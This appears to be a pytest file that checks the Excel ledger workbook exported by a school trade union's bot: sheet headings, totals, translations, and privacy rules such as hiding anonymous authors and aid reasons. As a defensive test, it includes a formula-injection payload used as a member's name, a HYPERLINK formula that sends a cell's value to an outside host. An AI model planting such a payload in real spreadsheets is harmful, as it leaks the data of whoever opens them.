"""The 台账 workbook (issue 18): one sheet per book, as the higher-level union and 经审 take it.

A school year is built through the real domain functions (joining, the suggestion box, the
staff congress, aid from request to payment and correction, hardship files, activities with
sign-ups and check-in), then the workbook is opened with openpyxl and read as a reader would:
the sheets, the union's headings, frozen headers, widths, every sheet's totals, and what must
never be there (a live formula, an anonymous author, an aid description, a hardship reason).
"""

from __future__ import annotations

import importlib
import io
import secrets
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date, datetime, time, timedelta
from xml.etree import ElementTree

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy import update
from sqlmodel import col

from models.activities import (
    ActivityCategory,
    NewActivity,
    cancel_activity,
    check_in,
    create_activity,
    sign_up,
)
from models.aid import (
    FEN,
    AidType,
    CaseDraft,
    approve,
    correct,
    file_case,
    mark_paid,
)
from models.hardship import HardshipLevel, a_year_after, close_file, open_file
from models.members import Actor, Member, MemberStatus, Role
from models.proposals import (
    Implementation,
    ProposalCategory,
    ProposalStatus,
    Rating,
    add_department,
    answer,
    assign,
    create_draft,
    merge,
    open_session,
    rate,
    triage,
)
from models.reports.period import year_period
from models.reports.workbook import books_workbook
from models.suggestions import (
    Draft,
    close_suggestion,
    ensure_default_categories,
    list_categories,
    reply_to_suggestion,
    submit_suggestion,
)
from models.xlsx_stream import StreamBook, Styled
from tests.support.factories import make_member
from tests.support.harness import BotHarness
from tests.support.updates import Person

ORG = "实验中学工会"
FORMULA_NAME = '=HYPERLINK("http://x.cn/?"&C3,"吴老师")'
STORY = "心脏搭桥手术，住院两周，医生说要长期服药"
HARDSHIP_REASON = "妻子患尿毒症，每周透析"
ANONYMOUS_BODY = "食堂的菜太咸，希望少放盐。"
LONG_REASONS = "食堂油烟排不出去，" * 120  # over the 700 characters a desk card shows
SHEETS = {
    "zh-Hans": ["会员名册", "意见建议台账", "提案汇编", "帮扶慰问台账", "困难职工档案", "活动台账"],
    "zh-Hant": ["會員名冊", "意見建議台賬", "提案彙編", "幫扶慰問台賬", "困難職工檔案", "活動台賬"],
    "en": [
        "Member roster",
        "Suggestions",
        "Proposals",
        "Aid and care ledger",
        "Hardship files",
        "Activities",
    ],
}


@dataclass
class School:
    """The people of the test school, as actors."""

    chair: Actor
    committee: Actor
    treasurer: Actor
    wang: Actor  # a representative, female, 数学组
    li: Actor  # a representative
    formula: Actor  # named like a formula
    sun: Actor  # writes anonymously
    year: int


def local_now(bot: BotHarness) -> datetime:
    """Now in the bot's time zone."""
    return datetime.now(bot.app.state.settings.zone)


def at(bot: BotHarness, day: date, hour: int = 15) -> datetime:
    """A local time on `day`, as stored (aware)."""
    return datetime.combine(day, time(hour), tzinfo=bot.app.state.settings.zone)


async def person(
    bot: BotHarness,
    number: int,
    name: str,
    department: str,
    *,
    roles: tuple[Role, ...] = (),
    gender: str | None = None,
    status: MemberStatus = MemberStatus.ACTIVE,
    telegram: bool = True,
) -> Actor:
    """A member as the factory stores one, with the Actor the bot would load."""
    member = await make_member(
        bot.db,
        org_id=bot.org_id,
        person=Person(number, "X", "zh-hans") if telegram else None,
        name=name,
        department=department,
        roles=roles,
        gender=gender,
        status=status,
    )
    return Actor(member=member, roles=frozenset(roles))


async def build_school(bot: BotHarness) -> School:
    """Nine people on the roster (seven members with the bot, one imported retiree, one
    waiting to join), one who left and one refused (not on the roster)."""
    school = School(
        chair=await person(bot, 4001, "张主席", "校办", roles=(Role.CHAIR,), gender="female"),
        committee=await person(bot, 4002, "刘委员", "体育组", roles=(Role.COMMITTEE,)),
        treasurer=await person(bot, 4003, "钱会计", "财务室", roles=(Role.TREASURER,)),
        wang=await person(
            bot, 4004, "王老师", "数学组", roles=(Role.REPRESENTATIVE,), gender="female"
        ),
        li=await person(bot, 4005, "李老师", "语文组", roles=(Role.REPRESENTATIVE,)),
        formula=await person(bot, 4006, FORMULA_NAME, "语文组"),
        sun=await person(bot, 4007, "孙老师", "英语组"),
        year=local_now(bot).year,
    )
    retiree = await person(bot, 0, "陈建国", "退休", status=MemberStatus.INVITED, telegram=False)
    await person(bot, 4009, "赵老师", "美术组", status=MemberStatus.PENDING)
    await person(bot, 4010, "周老师", "音乐组", status=MemberStatus.INACTIVE)
    await person(bot, 4011, "吴某", "音乐组", status=MemberStatus.REJECTED)
    async with bot.db() as session:
        await session.exec(update(Member).where(col(Member.id) == retiree.id).values(retired=True))
        await session.commit()
    return school


async def fill_suggestion_box(bot: BotHarness, school: School) -> None:
    """A named item answered and closed, and an anonymous one left open."""
    async with bot.db() as session:
        await ensure_default_categories(session, org_id=bot.org_id)
        categories = {c.code: c.id or 0 for c in await list_categories(session, org_id=bot.org_id)}
        today = local_now(bot).date()
        named = await submit_suggestion(
            session,
            org_id=bot.org_id,
            author=school.wang,
            draft=Draft(categories["facilities"], "办公室的灯坏了三盏。", (), False, "s1"),
            seal=bot.app.state.seal,
            today=today,
        )
        await submit_suggestion(
            session,
            org_id=bot.org_id,
            author=school.sun,
            draft=Draft(categories["canteen"], ANONYMOUS_BODY, (), True, "s2"),
            seal=bot.app.state.seal,
            today=today,
        )
        replied = await reply_to_suggestion(
            session,
            org_id=bot.org_id,
            suggestion_id=named.id or 0,
            actor=school.committee,
            body="已报总务处，本周内换好。",
            expected_version=named.version,
        )
        await close_suggestion(
            session,
            org_id=bot.org_id,
            suggestion_id=replied.id or 0,
            actor=school.committee,
            note="灯已全部换好。",
        )


async def hold_congress(bot: BotHarness, school: School) -> None:
    """Two proposals, the second merged into the first; the first filed, answered
    (已落实) and rated 满意."""
    today = local_now(bot).date()
    async with bot.db() as session:
        await open_session(
            session,
            org_id=bot.org_id,
            actor=school.committee,
            name="第五届教代会第三次会议",
            opens_on=today,
            closes_on=today + timedelta(days=30),
            min_cosigners=0,
        )
        first = await create_draft(
            session,
            org_id=bot.org_id,
            actor=school.wang,
            title="改善食堂通风",
            reasons=LONG_REASONS,
            measures="加装排风扇；错峰开饭。",
            client_token="p1",
            today=today,
            category=ProposalCategory.FACILITIES,
        )
        second = await create_draft(
            session,
            org_id=bot.org_id,
            actor=school.li,
            title="食堂排烟",
            reasons="油烟大。",
            measures="换排风设备。",
            client_token="p2",
            today=today,
            category=ProposalCategory.FACILITIES,
        )
        assert first.status == second.status == ProposalStatus.SUBMITTED
        first_id, second_id = first.id or 0, second.id or 0
        await merge(
            session,
            org_id=bot.org_id,
            survivor_id=first_id,
            merged_ids=[second_id],
            actor=school.committee,
        )
        await triage(
            session,
            org_id=bot.org_id,
            proposal_id=first_id,
            actor=school.committee,
            outcome=ProposalStatus.FILED,
        )
        logistics = await add_department(
            session, org_id=bot.org_id, actor=school.committee, name="总务处"
        )
        await assign(
            session,
            org_id=bot.org_id,
            proposal_id=first_id,
            actor=school.committee,
            lead_department_id=logistics.id or 0,
            today=today,
        )
        await answer(
            session,
            org_id=bot.org_id,
            proposal_id=first_id,
            actor=school.committee,
            body="已于暑假加装排风扇四台。",
            implementation=Implementation.DONE,
        )
        await rate(
            session,
            org_id=bot.org_id,
            proposal_id=first_id,
            actor=school.wang,
            rating=Rating.SATISFIED,
            comment=None,
            today=today,
        )


async def paid_case(
    bot: BotHarness,
    school: School,
    *,
    subject: Actor,
    aid_type: AidType,
    amount: int,
    approver: Actor,
    paid_on: date,
) -> int:
    """A case asked by `subject`, approved by `approver` and paid by 财务; its id."""
    today = local_now(bot).date()
    async with bot.db() as session:
        case = await file_case(
            session,
            org_id=bot.org_id,
            actor=subject,
            draft=CaseDraft(aid_type, STORY, today, None, (), secrets.token_hex(8)),
            today=today,
        )
        outcome = await approve(
            session,
            org_id=bot.org_id,
            case_id=case.id or 0,
            actor=approver,
            amount=amount * FEN,
            today=today,
        )
        assert outcome.approved
        await mark_paid(
            session,
            org_id=bot.org_id,
            case_id=case.id or 0,
            actor=school.treasurer,
            paid_on=paid_on,
            method="银行转账",
            note="已转入工资卡",
            today=today,
        )
        return case.id or 0


async def give_aid(bot: BotHarness, school: School) -> None:
    """Two hospital visits (250 each), a childbirth (500, corrected by +50), and a wedding
    paid last year (not in this year's book)."""
    today = local_now(bot).date()
    for subject in (school.wang, school.sun):
        await paid_case(
            bot,
            school,
            subject=subject,
            aid_type=AidType.HOSPITAL,
            amount=250,
            approver=school.committee,
            paid_on=today,
        )
    childbirth = await paid_case(
        bot,
        school,
        subject=school.wang,
        aid_type=AidType.CHILDBIRTH,
        amount=500,
        approver=school.committee,
        paid_on=today,
    )
    async with bot.db() as session:
        corrected = await correct(
            session,
            org_id=bot.org_id,
            case_id=childbirth,
            actor=school.treasurer,
            change=50 * FEN,
            note="补发营养费",
            today=today,
        )
        assert corrected.applied
    await paid_case(
        bot,
        school,
        subject=school.committee,
        aid_type=AidType.MARRIAGE,
        amount=500,
        approver=school.chair,
        paid_on=date(school.year - 1, 12, 31),
    )


async def open_files(bot: BotHarness, school: School) -> None:
    """The formula-named member on file (特困); 王老师's file closed this year."""
    today = local_now(bot).date()
    async with bot.db() as session:
        await open_file(
            session,
            org_id=bot.org_id,
            actor=school.committee,
            member_id=school.formula.id,
            level=HardshipLevel.SPECIAL,
            reason=HARDSHIP_REASON,
            today=today,
        )
        closing = await open_file(
            session,
            org_id=bot.org_id,
            actor=school.committee,
            member_id=school.wang.id,
            level=HardshipLevel.GENERAL,
            reason="家里老人住院",
            today=today,
        )
        await close_file(
            session,
            org_id=bot.org_id,
            file_id=closing.id or 0,
            actor=school.committee,
            reason="老人已康复出院",
        )


async def run_activities(bot: BotHarness, school: School) -> None:
    """拔河比赛 (2 places, 3 signed up, 1 checked in), 插花 (women only, 2 signed up), and
    a cancelled 篮球赛; all created on 1 January of the year."""
    year = school.year
    created = at(bot, date(year, 1, 1), 8)

    def new(title: str, category: ActivityCategory, day: date, **rules: object) -> NewActivity:
        return NewActivity(
            title=title,
            description="",
            category=category,
            starts_at=at(bot, day),
            place="操场",
            capacity=rules.get("capacity"),  # type: ignore[arg-type]
            deadline=at(bot, day - timedelta(days=1)),
            eligibility=rules.get("who", {"type": "everyone"}),  # type: ignore[arg-type]
        )

    async with bot.db() as session:
        org = bot.org_id
        tug = await create_activity(
            session,
            org_id=org,
            actor=school.committee,
            new=new("拔河比赛", ActivityCategory.CONTEST, date(year, 1, 20), capacity=2),
            now=created,
        )
        flowers = await create_activity(
            session,
            org_id=org,
            actor=school.committee,
            new=new("插花", ActivityCategory.CULTURE, date(year, 3, 6), who={"type": "women"}),
            now=created,
        )
        basketball = await create_activity(
            session,
            org_id=org,
            actor=school.committee,
            new=new("篮球赛", ActivityCategory.SPORT, date(year, 4, 10)),
            now=created,
        )
        signing = at(bot, date(year, 1, 10))
        for actor in (school.wang, school.li, school.sun):
            await sign_up(
                session,
                org_id=org,
                activity_id=tug.id or 0,
                actor=actor,
                choice=None,
                family=0,
                now=signing,
            )
        for actor in (school.chair, school.wang):
            await sign_up(
                session,
                org_id=org,
                activity_id=flowers.id or 0,
                actor=actor,
                choice=None,
                family=0,
                now=signing,
            )
        await check_in(
            session,
            org_id=org,
            activity_id=tug.id or 0,
            member_id=school.wang.id,
            now=tug.starts_at,
        )
        await cancel_activity(
            session, org_id=org, activity_id=basketball.id or 0, actor=school.committee
        )


async def full_year(bot: BotHarness) -> School:
    """Everything above."""
    school = await build_school(bot)
    await fill_suggestion_box(bot, school)
    await hold_congress(bot, school)
    await give_aid(bot, school)
    await open_files(bot, school)
    await run_activities(bot, school)
    return school


async def workbook_of(bot: BotHarness, year: int, language: str = "zh-Hans") -> Workbook:
    """The workbook of the year as the reader in `language` receives it, opened."""
    async with bot.db() as session:
        content = await books_workbook(
            session,
            org_id=bot.org_id,
            period=year_period(year),
            tr=bot.app.state.i18n.get(language),
            zone=bot.app.state.settings.zone,
            organization=ORG,
        )
    return load_workbook(io.BytesIO(content))


def rows(sheet: Worksheet) -> list[tuple[object, ...]]:
    """Every row's values."""
    return [tuple(row) for row in sheet.iter_rows(values_only=True)]


def data(sheet: Worksheet) -> list[tuple[object, ...]]:
    """The rows between the column headings and the totals (the totals rows are bold)."""
    return [
        tuple(cell.value for cell in row)
        for row in sheet.iter_rows(min_row=4)
        if row[0].value is not None and not row[0].font.b
    ]


def totals(sheet: Worksheet) -> dict[object, tuple[object, ...]]:
    """The bold rows under the data, by their label."""
    return {
        row[0].value: tuple(cell.value for cell in row)
        for row in sheet.iter_rows(min_row=4)
        if row[0].value is not None and row[0].font.b
    }


def cells(book: Workbook) -> Iterator[tuple[str, object, str]]:
    """(sheet, value, data type) of every cell with a value."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield sheet.title, cell.value, cell.data_type


# ---- the tests ---------------------------------------------------------------------------


async def test_every_book_has_the_unions_heading_a_frozen_header_and_widths(
    bot: BotHarness,
) -> None:
    school = await full_year(bot)
    book = await workbook_of(bot, school.year)
    assert book.sheetnames == SHEETS["zh-Hans"]
    for sheet in book.worksheets:
        dates = f"{school.year}年1月1日至{school.year}年12月31日"
        assert sheet["A1"].value == f"{ORG} {sheet.title} {dates}"
        assert sheet["A1"].font.b
        assert str(sheet["A2"].value).startswith("制表日期：")
        assert sheet.freeze_panes == "A4"
        assert all(cell.font.b for cell in sheet[3] if cell.value is not None)
    assert [cell.value for cell in book["会员名册"][3]] == [
        "工会小组",
        "姓名",
        "性别",
        "离退休",
        "职务",
        "入会日期",
        "状态",
    ]
    assert book["会员名册"].column_dimensions["A"].width == 20
    assert book["意见建议台账"].column_dimensions["E"].width == 50
    assert [cell.value for cell in book["帮扶慰问台账"][3]][:5] == [
        "编号",
        "类型",
        "慰问对象",
        "工会小组",
        "批准金额（元）",
    ]


async def test_the_roster_on_the_last_day_with_its_counts(bot: BotHarness) -> None:
    school = await full_year(bot)
    sheet = (await workbook_of(bot, school.year))["会员名册"]
    people = {row[1]: row for row in data(sheet)}
    assert set(people) == {
        "张主席",
        "刘委员",
        "钱会计",
        "王老师",
        "李老师",
        "'" + FORMULA_NAME,
        "孙老师",
        "陈建国",
        "赵老师",
    }  # 周老师 left, 吴某 was refused
    assert people["王老师"][:5] == ("数学组", "王老师", "女", "否", "教代会代表")
    assert people["钱会计"][4] == "工会财务（经费管理）"
    assert people["陈建国"][3] == "是"
    assert people["陈建国"][6] == "已导入，未关联 Telegram"
    assert people["陈建国"][5] is None  # not a member yet: no join day
    assert people["赵老师"][6] == "待审批"
    assert isinstance(people["王老师"][5], datetime)
    joined = next(cell for cell in sheet.iter_rows(min_row=4) if cell[1].value == "王老师")[5]
    assert joined.number_format == "yyyy-mm-dd"
    sums = totals(sheet)
    assert sums["合计"][1] == 9
    assert sums["其中女教职工"][1] == 2
    assert sums["其中离退休"][1] == 1
    assert sums["正常"][1] == 7
    assert sums["已导入，未关联 Telegram"][1] == 1
    assert sums["待审批"][1] == 1
    values = {value for _sheet, value, _type in cells(sheet.parent)}
    assert not values & {4004, "4004", 4008}  # no Telegram ids anywhere


async def test_a_formula_looking_name_stays_text_everywhere(bot: BotHarness) -> None:
    school = await full_year(bot)
    book = await workbook_of(bot, school.year)
    found = [(title, kind) for title, value, kind in cells(book) if "HYPERLINK" in str(value)]
    assert found == [("会员名册", "s"), ("困难职工档案", "s")]
    assert all(kind != "f" for _title, _value, kind in cells(book))
    assert all(not str(value).startswith("=") for _title, value, _kind in cells(book))


async def test_suggestions_show_no_anonymous_author_and_count_the_answers(
    bot: BotHarness,
) -> None:
    school = await full_year(bot)
    sheet = (await workbook_of(bot, school.year))["意见建议台账"]
    items = data(sheet)
    assert len(items) == 2
    named, anonymous = items
    today = local_now(bot).date()
    assert named[0] == f"意-{today.year}-0001"
    assert named[1:5] == (
        datetime.combine(today, time()),
        "后勤与设施",
        "王老师",
        "办公室的灯坏了三盏。",
    )
    assert named[5] == f"{today.isoformat()}：已报总务处，本周内换好。"
    assert named[6] == 0
    assert named[7:] == ("已办结", "灯已全部换好。")
    assert anonymous[3] == "匿名"
    assert anonymous[4] == ANONYMOUS_BODY
    assert anonymous[5] is None and anonymous[6] is None
    everything = " ".join(str(value) for row in rows(sheet) for value in row)
    assert "孙老师" not in everything and "英语组" not in everything
    sums = totals(sheet)
    assert sums["合计"][1] == 2
    assert sums["其中匿名"][1] == 1
    assert sums["已答复"][1] == 1
    assert sums["已办结"][1] == 1


async def test_the_proposals_with_their_full_text_answer_and_rating(bot: BotHarness) -> None:
    school = await full_year(bot)
    sheet = (await workbook_of(bot, school.year))["提案汇编"]
    first, second = data(sheet)
    assert first[:6] == (
        "第五届教代会第三次会议",
        1,
        "改善食堂通风",
        "后勤保障",
        "王老师、李老师",  # 李老师 came in as a co-author through the merge
        None,
    )
    assert len(str(first[6])) > 1000  # the full text, not a card's 700 characters
    assert str(first[6]).startswith("食堂油烟排不出去，食堂油烟")
    assert first[7] == "加装排风扇；错峰开饭。"
    assert first[8] == "已办结"
    assert first[11] == "总务处"
    assert first[13] == "已于暑假加装排风扇四台。"
    assert first[15] == "已落实"
    assert first[16] == "满意"
    assert second[1] == 2
    assert second[8] == "已合并"
    assert second[9] == "提案第1号"
    sums = totals(sheet)
    assert "第五届教代会第三次会议" in sums
    assert sums["征集提案"][1] == 2
    assert sums["归并后"][1] == 1
    assert sums["立案"][1] == 1
    assert sums["已答复"][1] == 1
    assert sums["已办结"][1] == 1
    assert sums["满意率"][1] == 1.0


async def test_the_aid_ledger_for_the_audit_with_subtotals_and_no_details(
    bot: BotHarness,
) -> None:
    school = await full_year(bot)
    book = await workbook_of(bot, school.year)
    sheet = book["帮扶慰问台账"]
    paid = data(sheet)
    assert [(row[1], row[2]) for row in paid] == [
        ("住院慰问", "王老师"),
        ("住院慰问", "孙老师"),
        ("生育慰问", "王老师"),
    ]  # the wedding was paid last year
    childbirth = paid[2]
    assert childbirth[4:] == (
        500,
        "刘委员",
        500,
        f"{local_now(bot).date().isoformat()} +50",
        550,
        datetime.combine(local_now(bot).date(), time()),
        "银行转账",
        "钱会计",
    )
    money = next(row for row in sheet.iter_rows(min_row=4) if row[1].value == "生育慰问")
    assert money[4].number_format == "#,##0.00"
    sums = totals(sheet)
    assert sums["小计：住院慰问"][1] == 2
    assert (sums["小计：住院慰问"][4], sums["小计：住院慰问"][8]) == (500, 500)
    assert sums["小计：生育慰问"][1] == 1
    assert (sums["小计：生育慰问"][6], sums["小计：生育慰问"][8]) == (500, 550)
    assert sums["合计"][1] == 3
    assert (sums["合计"][4], sums["合计"][6], sums["合计"][8]) == (1000, 1000, 1050)
    everything = " ".join(str(value) for _title, value, _kind in cells(book))
    for secret in (STORY, "心脏", "补发营养费", "已转入工资卡", HARDSHIP_REASON, "康复"):
        assert secret not in everything


async def test_hardship_files_with_the_aid_paid_to_each_family(bot: BotHarness) -> None:
    school = await full_year(bot)
    sheet = (await workbook_of(bot, school.year))["困难职工档案"]
    files = data(sheet)
    today = datetime.combine(local_now(bot).date(), time())
    assert [row[1] for row in files] == ["'" + FORMULA_NAME, "王老师"]
    formula, wang = files
    assert str(formula[0]).startswith("档-")
    next_year = datetime.combine(a_year_after(today.date()), time())  # 29 Feb: 28 Feb
    assert formula[3:9] == ("特困", today, next_year, "在档", None, 0)
    assert wang[3] == "一般困难"
    assert wang[6:] == ("已撤档", today, 800)  # 250 in hospital, 500 + 50 for the birth
    sums = totals(sheet)
    assert sums["合计"][1] == 2
    assert sums["合计"][8] == 800
    assert sums["期末在档"][1] == 1
    assert sums["本期撤档"][1] == 1


async def test_activities_with_sign_ups_attendance_and_participation(bot: BotHarness) -> None:
    school = await full_year(bot)
    sheet = (await workbook_of(bot, school.year))["活动台账"]
    tug, flowers, basketball = data(sheet)
    assert tug[:11] == (
        "拔河比赛",
        "比赛",
        datetime.combine(date(school.year, 1, 20), time(15)),
        "操场",
        2,
        3,
        2,
        1,
        1,
        7,
        round(1 / 7, 3),
    )
    assert flowers[4:11] == ("不限", 2, 2, 0, 0, 2, 1.0)  # no check-in: the places count
    assert basketball[11] == "已取消"
    when = next(row for row in sheet.iter_rows(min_row=4) if row[0].value == "拔河比赛")
    assert when[2].number_format == "yyyy-mm-dd hh:mm"
    assert when[10].number_format == "0.0%"
    sums = totals(sheet)["合计，不含已取消的活动"]
    assert sums[1] == 2
    assert sums[5:11] == (5, 4, 1, 1, 9, round(3 / 9, 3))


async def test_an_empty_year_says_so_and_totals_are_zero(bot: BotHarness) -> None:
    school = await full_year(bot)
    book = await workbook_of(bot, school.year - 3)
    for sheet in book.worksheets:
        assert "本期没有记录。" in [row[0] for row in rows(sheet)]
    assert totals(book["帮扶慰问台账"])["合计"][1] == 0
    assert totals(book["会员名册"])["合计"][1] == 0  # nobody was on the roster then


@pytest.mark.parametrize("language", ["zh-Hant", "en"])
async def test_traditional_and_english_readers_get_their_own_headings(
    bot: BotHarness, language: str
) -> None:
    school = await full_year(bot)
    book = await workbook_of(bot, school.year, language)
    assert book.sheetnames == SHEETS[language]
    aid = book[SHEETS[language][3]]
    if language == "en":
        assert aid["A1"].value == (
            f"{ORG} · Aid and care ledger · January 1, {school.year} to December 31, {school.year}"
        )
        assert aid["A2"].value.startswith("Made on ")
        assert [cell.value for cell in aid[3]][:3] == ["Number", "Type", "Person"]
        assert totals(aid)["Total"][8] == 1050
        assert totals(book["Suggestions"])["Total"][1] == 2
    else:
        assert aid["A1"].value == (
            f"{ORG} 幫扶慰問台賬 {school.year}年1月1日至{school.year}年12月31日"
        )
        assert aid["A2"].value.startswith("製表日期：")
        assert [cell.value for cell in aid[3]][:3] == ["編號", "類型", "慰問對象"]
        assert totals(aid)["合計"][8] == 1050
    assert all(sheet.freeze_panes == "A4" for sheet in book.worksheets)


def test_the_stream_writer_keeps_texts_text_and_formats_numbers() -> None:
    book = StreamBook()
    sheet = book.sheet("a/b:c", widths=(12, 30), frozen_rows=1)
    sheet.append(
        ["=1+1", "@SUM(A1)", "普通文字 & <b>", 3, Styled(12.5, "#,##0.00", bold=True), None]
    )
    sheet.append([Styled("=A1", bold=True, size=14), date(2026, 3, 8), True, "\tx", "a\x01b"])
    book.sheet("a/b:c").append(["长" * 40_000])  # the same name again; a text too long
    content = book.close()
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            ElementTree.fromstring(archive.read(name))  # every part is well-formed XML
    opened = load_workbook(io.BytesIO(content))
    assert opened.sheetnames == ["a b c", "a b c 2"]
    first, second = opened.worksheets[0][1], opened.worksheets[0][2]
    assert [cell.value for cell in first][:5] == ["'=1+1", "'@SUM(A1)", "普通文字 & <b>", 3, 12.5]
    assert [cell.data_type for cell in first][:5] == ["s", "s", "s", "n", "n"]
    assert first[4].number_format == "#,##0.00" and first[4].font.b
    assert second[0].value == "'=A1" and second[0].data_type == "s"
    assert second[0].font.b and second[0].font.sz == 14
    assert second[1].value == datetime.combine(date(2026, 3, 8), time())
    assert second[1].number_format == "yyyy-mm-dd"
    assert [cell.value for cell in second][2:] == [True, "' x", "ab"]
    assert opened.worksheets[0].freeze_panes == "A2"
    assert opened.worksheets[0].column_dimensions["B"].width == 30
    assert len(opened.worksheets[1]["A1"].value) == 32_767


@pytest.mark.skipif(
    not hasattr(Member, "joined_at"),
    reason="tests/support/seed_year.py comes with the figures' migration 0020 (joined, left)",
)
async def test_the_seed_years_books_add_up_as_the_seed_writes_them(bot: BotHarness) -> None:
    """看望住院员工16人次，4,000元；产妇5人，2,500元……总计慰问金34,500元 (seed 003, 篇四)."""
    seed_year = importlib.import_module("tests.support.seed_year")  # the figures' branch
    await seed_year.build_year(bot.db, org_id=bot.org_id, secret=b"seed-year-secret")
    book = await workbook_of(bot, 2026)
    aid = totals(book["帮扶慰问台账"])
    lines = {label: (row[1], row[8]) for label, row in aid.items() if str(label).startswith("小计")}
    assert lines == {
        "小计：住院慰问": (16, 4000),
        "小计：生育慰问": (5, 2500),
        "小计：丧葬慰问": (2, 20000),
        "小计：困难补助": (6, 6000),
        "小计：退休慰问": (2, 2000),
    }
    assert (aid["合计"][1], aid["合计"][8]) == (31, 34500)
    corrected = [row for row in data(book["帮扶慰问台账"]) if row[7]]
    assert [(row[6], row[8]) for row in corrected] == [(300, 250)]
    files = totals(book["困难职工档案"])
    assert (files["合计"][1], files["合计"][8]) == (6, 6000)
    proposals = totals(book["提案汇编"])
    assert (proposals["征集提案"][1], proposals["归并后"][1], proposals["立案"][1]) == (36, 18, 16)
    roster = totals(book["会员名册"])
    assert (roster["合计"][1], roster["正常"][1]) == (48, 45)
    assert (roster["其中女教职工"][1], roster["其中离退休"][1]) == (26, 3)
    suggestions = totals(book["意见建议台账"])
    assert (suggestions["合计"][1], suggestions["其中匿名"][1]) == (10, 4)
    assert (suggestions["已答复"][1], suggestions["已办结"][1]) == (7, 3)
    assert totals(book["活动台账"])["合计，不含已取消的活动"][1] == 4
